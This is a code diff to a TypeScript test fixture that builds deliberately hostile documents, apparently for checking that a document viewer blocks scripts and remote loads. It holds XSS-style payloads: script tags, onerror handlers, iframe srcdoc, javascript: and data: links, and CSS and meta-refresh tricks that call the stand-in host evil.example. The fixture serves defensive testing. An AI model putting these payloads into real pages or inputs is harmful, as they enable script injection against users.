@@ -2,9 +2,9 @@ import { strToU8, zipSync } from 'fflate';
 import { type Document, makeDocx, makeText } from '../scripts/example-room/documents.ts';
 
 /** Does what no document may: it asks another machine and opens a dialog. Either makes a test complain. */
-const DEED = "fetch('https://evil.example/x');alert(1)";
-const PAGE = `<html><body><script>${DEED}</script><img src="https://evil.example/p.png" onerror="${DEED}"></body></html>`;
-const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+export const DEED = "fetch('https://evil.example/x');alert(1)";
+export const PAGE = `<html><body><script>${DEED}</script><img src="https://evil.example/p.png" onerror="${DEED}"></body></html>`;
+export const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 
 /** Documents that try to run a script, to load something or to lead somewhere; each shows the words 'quiet text'. */
 export function listHostileDocuments(): Document[] {
@@ -12,7 +12,7 @@ export function listHostileDocuments(): Document[] {
     hostileDocx(),
     makeText(
       'hostile.md',
-      `# quiet text\n\n<script>${DEED}</script><img src=x onerror="${DEED}"><iframe srcdoc="<script>${DEED}</script>"></iframe>\n\n[link](javascript:${encodeURIComponent(DEED)}) ![far](https://evil.example/p.png)\n\n<div style="background:url(https://evil.example/s.png)">styled</div><style>@import 'https://evil.example/s.css';</style><form action="https://evil.example/"><button>send</button></form><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+      `# quiet text\n\n<script>${DEED}</script><img src=x onerror="${DEED}"><iframe srcdoc="<script>${DEED}</script>"></iframe>\n\n[link](javascript:${encodeURIComponent(DEED)}) [page](data:text/html,<script>${encodeURIComponent(DEED)}</script>) ![far](https://evil.example/p.png)\n\n<div style="background:url(https://evil.example/s.png)">styled</div><style>@import 'https://evil.example/s.css';</style><form action="https://evil.example/"><button>send</button></form><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
     ),
     {
       name: 'hostile.eml',
